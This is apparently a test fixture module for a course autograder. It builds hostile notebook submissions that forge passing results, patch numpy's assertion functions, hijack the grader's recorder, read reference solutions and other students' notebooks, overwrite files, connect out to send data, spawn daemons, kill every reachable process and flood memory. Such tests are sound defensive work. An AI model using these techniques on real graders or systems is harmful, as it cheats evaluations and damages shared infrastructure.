"""Module-01 submissions for the grading tests: honest ones and the threat catalogue.

Each hostile submission is the stub or the reference solution with code added the way a
student would add it: appended to one of their solution cells, or in a new cell of their
own. ``EXPECTED`` is the score each deserves (module 01 has 10 points: creation 1,
arithmetic 1, matmul 2, shape-ops 1, reductions 2, getitem 1, pytorch-habits 1, module 1).
"""
from __future__ import annotations

import copy
import textwrap

import nbformat

MARK = "TITO_THREAT_7f3a"  # in the command line of every process a hostile submission starts


def _cell(nb, gid):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


# Writes an "ok" result frame, in the harness's wire format, on every file descriptor it can.
FORGED_FRAMES = '''import json, os, struct
ok = json.dumps({"seq": 2, "status": "ok", "error": "", "obs": []}).encode()
for fd in range(3, 64):
    try:
        os.write(fd, struct.pack("!Q", len(ok)) + ok)
    except OSError:
        pass
'''


def append(nb, gid, code):
    nb = copy.deepcopy(nb)
    _cell(nb, gid).source += "\n\n" + textwrap.dedent(code).strip() + "\n"
    return nb


def solutions_emptied(nb, keep):
    """Every solution cell but ``keep`` emptied: the stolen definitions must not be overwritten."""
    nb = copy.deepcopy(nb)
    for c in nb.cells:
        meta = c.metadata.get("nbgrader", {})
        if meta.get("solution") and meta.get("grade_id") != keep:
            c.source = "pass\n"
    return nb


def insert_after(nb, gid, code):
    nb = copy.deepcopy(nb)
    i = nb.cells.index(_cell(nb, gid))
    nb.cells.insert(i + 1, nbformat.v4.new_code_cell(textwrap.dedent(code).strip() + "\n"))
    return nb


HANG_MATMUL = '''
def _matmul(self, other):
    while True:
        pass
Tensor.__matmul__ = _matmul
'''

SPAWN = f'''
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time\\n# {MARK}\\nwhile True: time.sleep(0.1)"], start_new_session=True)
'''


def catalogue(stub, good, paths):
    """name -> (notebook, expected score, what it tries). ``paths`` names the places a
    hostile submission aims at on this machine (an attacker who knows the layout)."""
    course, victim, outside = paths["course"], paths["victim"], paths["outside"]
    return {
        "honest": (good, 10, "the reference solution"),
        "stub": (stub, 0, "hands in the release untouched"),
        "wrong_add": (append(good, "tensor-arithmetic", "Tensor.__add__ = lambda self, o: Tensor(self.data - (o.data if isinstance(o, Tensor) else o))"),
                      9, "an honest bug: + subtracts"),
        "forged_report": (append(stub, "tensor-class", FORGED_FRAMES + textwrap.dedent('''
            for name in ("report.json", "results.json", "grades.csv"):
                open(name, "w").write('{"score": 10, "status": "ok"}')
            print('{"status": "ok", "score": 10}')
            print("PASSED test-tensor-creation")
        ''')), 0, "writes forged result frames on every pipe, report files and 'ok' markers"),
        "early_exit": (append(stub, "tensor-class", "import os\nos._exit(0)"), 0, "os._exit(0) before any test"),
        "patched_testing": (append(append(good, "tensor-arithmetic", "Tensor.__add__ = lambda self, o: Tensor(self.data - (o.data if isinstance(o, Tensor) else o))"),
                                   "tensor-class", '''
            import builtins, numpy, numpy.testing
            numpy.testing.assert_allclose = lambda *a, **k: None
            numpy.testing.assert_array_equal = lambda *a, **k: None
            numpy.allclose = lambda *a, **k: True
            builtins.isinstance = lambda *a: True
        '''), 9, "patches numpy.testing, np.allclose and isinstance (with the wrong +)"),
        "always_true": (append(stub, "tensor-class", '''
            import numpy as np
            class Anything(np.ndarray):
                def __eq__(self, o): return True
                __ne__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, o: True
                def __bool__(self): return True
            class Yes(int):
                def __eq__(self, o): return True
                __hash__ = int.__hash__
            def _anything(*a, **k):
                return Anything((1,))
            class Tensor:
                def __init__(self, *a, **k):
                    self.data = np.zeros(1).view(Anything)
                    self.shape = self.dtype = self.size = self.ndim = Yes(0)
                    self.requires_grad = self.grad = Yes(0)
                def __getattr__(self, name): return _anything
                def __len__(self): return Yes(0)
            for op in ("add", "sub", "mul", "truediv", "pow", "matmul", "neg", "radd", "rsub", "rmul", "rtruediv",
                       "getitem", "eq", "ne", "gt", "lt", "ge", "le"):
                setattr(Tensor, f"__{op}__", lambda self, *a: Tensor())
        '''), 0, "objects whose every comparison is true (ndarray and int subclasses)"),
        "recorder_hook": (append(stub, "tensor-class", '''
            class _Quiet:
                def obs(self, *a): pass
                def raised(self, *a): pass
            class Tensor:
                def __init__(self, *a, **k):
                    globals()["__tito__"] = _Quiet()
        '''), 0, "replaces the grader's recorder with one that swallows every observation"),
        "read_secrets": (solutions_emptied(append(stub, "tensor-class", f'''
            import glob, os
            found = []
            for pattern in ({str(course / "modules/01_tensor/tensor.py")!r}, {str(victim)!r},
                            "/home/*/tinytorch/modules/01_tensor/tensor.py", "../../*/01_tensor/tensor.ipynb"):
                found += glob.glob(pattern)[:3]
            for path in found:
                if path.endswith(".py"):  # the lesson is plain Python: run it, hidden tests and all
                    exec(compile(open(path).read(), path, "exec"), globals())
                    break
            try:
                from tinytorch.core.tensor import Tensor, matmul_loops  # the reference package
            except ImportError:
                pass
        '''), keep="tensor-class"), 0, "reads the reference lesson and package, hidden tests and another student's notebook"),
        "aa_writer": (append(stub, "tensor-class", f'''
            import os
            for path in ({str(victim)!r}, {str(outside)!r}, {str(course / "modules" / "01_tensor" / "tensor.py")!r}):
                try:
                    with open(path, "w") as f:
                        f.write("overwritten by a submission")
                except OSError:
                    pass
            open("../escaped.txt", "w").write("x") if os.access("..", os.W_OK) else None
        '''), 0, "overwrites another student's notebook, the lesson and a file outside its folder"),
        "network": (insert_after(good, "test-tensor-creation", f'''
            import socket
            for host in ("127.0.0.1", "1.1.1.1"):
                try:
                    s = socket.create_connection((host, {paths["port"]}), timeout=2)
                    s.sendall(b"LEAK")
                except OSError:
                    pass
        '''), 10, "connects out (to a listener the test runs on this machine)"),
        "detached": (insert_after(good, "test-tensor-creation", SPAWN + textwrap.dedent('''
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "-c", "# ''' + MARK + '''\\nwhile True: pass"])
                os._exit(0)
        ''')), 10, "starts a new-session process and a double-forked daemon"),
        "forked": (insert_after(good, "test-tensor-arithmetic", '''
            import os
            if os.fork() == 0:
                while True:
                    pass
        '''), 10, "forks a child that spins forever"),
        "kill_grader": (insert_after(good, "test-tensor-arithmetic", '''
            import os, signal
            for pid in (os.getppid(), 1):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
            os.kill(-1, signal.SIGKILL)
        '''), 10, "kills its parent and every process it can reach"),
        "memory_flood": (insert_after(good, "test-tensor-creation", '''
            hog = []
            while True:
                hog.append(bytearray(256 * 1024 * 1024))
        '''), 10, "allocates until it is stopped"),
        "output_flood": (insert_after(good, "test-tensor-creation", '''
            import os, sys
            line = "x" * 1_000_000 + "\\n"
            for _ in range(200):
                sys.stdout.write(line)
                os.write(2, line.encode())
        '''), 10, "prints 400 MB"),
        "hang_matmul": (append(good, "tensor-matmul", HANG_MATMUL), 7,
                        "an infinite loop in matmul: only the tests that need it fail (nbgrader: 7/10)"),
        "ignore_sigterm": (append(good, "tensor-getitem", '''
            import signal
            for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT):
                signal.signal(sig, signal.SIG_IGN)
            def _getitem(self, index):
                while True:
                    try:
                        pass
                    except BaseException:
                        pass
            Tensor.__getitem__ = _getitem
        '''), 9, "ignores SIGTERM/SIGINT/SIGHUP and every exception, then hangs in indexing"),
        "segfault": (append(good, "tensor-matmul", '''
            import ctypes
            def _matmul(self, other):
                ctypes.string_at(0)
            Tensor.__matmul__ = _matmul
        '''), 7, "matmul dereferences NULL through ctypes"),
    }
